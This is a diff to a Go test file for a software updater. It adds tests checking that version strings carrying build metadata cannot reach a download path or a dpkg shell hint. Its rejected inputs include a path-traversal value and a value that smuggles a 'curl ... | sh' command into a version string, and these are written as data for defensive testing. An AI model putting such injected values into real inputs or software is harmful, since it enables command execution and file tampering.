@@ -1,6 +1,11 @@
 package update
 
-import "testing"
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
 
 func TestVersionCompare(t *testing.T) {
 	cases := []struct {
@@ -47,5 +52,45 @@ func TestParseVersionRefuses(t *testing.T) {
 	}
 	if Newer("dev", "1.0.0") || Newer("1.0.0", "dev") {
 		t.Error("an unparsable version must never be newer, nor be overtaken")
+	}
+}
+
+// The build part follows the pre-release's rules: a version reaches a
+// path (<state>/updates/<version>) and a shell hint (the .deb's), and the
+// review found both reachable through "+".
+func TestBuildMetadata(t *testing.T) {
+	for _, s := range []string{"9.9.9+/../../victim", "1.2.3+;curl${IFS}x|sh", "1.2.3+", "1.2.3+a..b", "1.2.3+a b", "1.2.3-rc.1+x/y", "1.2.3+a+b", "1.2.3+..", `1.2.3+a\b`} {
+		if v, err := ParseVersion(s); err == nil {
+			t.Errorf("ParseVersion(%q): got %+v, want an error", s, v)
+		}
+	}
+	for s, want := range map[string]string{"1.2.3+build.5": "1.2.3+build.5", "v1.2.3-rc.1+linux-x.05": "1.2.3-rc.1+linux-x.05"} {
+		v, err := ParseVersion(s)
+		if err != nil || v.String() != want {
+			t.Errorf("ParseVersion(%q): got %q, %v, want %q", s, v.String(), err, want)
+		}
+	}
+}
+
+// Whatever the feed says, the download directory is under Dir and the
+// .deb hint carries no shell words.
+func TestVersionReachesNoPathOrShell(t *testing.T) {
+	root := t.TempDir()
+	dir := filepath.Join(root, "state", "updates")
+	c := New(Config{Dir: dir})
+	for _, bad := range []string{"9.9.9+/../../victim", "1.2.3+;curl${IFS}x|sh"} {
+		if got, err := c.versionDir(bad); err == nil {
+			t.Errorf("versionDir(%q): got %s, want an error", bad, got)
+		}
+		if cmd := (Install{Manager: "dpkg"}).UpdateCommand(bad); strings.ContainsAny(cmd, ";|$") || strings.Contains(cmd, "victim") {
+			t.Errorf("UpdateCommand(%q): got %q, want no part of the version in it", bad, cmd)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(root, "state", "victim")); err == nil {
+		t.Error("versionDir made a directory outside Dir")
+	}
+	got, err := c.versionDir("v1.2.3+b.1")
+	if want := filepath.Join(dir, "1.2.3+b.1"); err != nil || got != want {
+		t.Errorf("versionDir(v1.2.3+b.1): got %s, %v, want %s", got, err, want)
 	}
 }
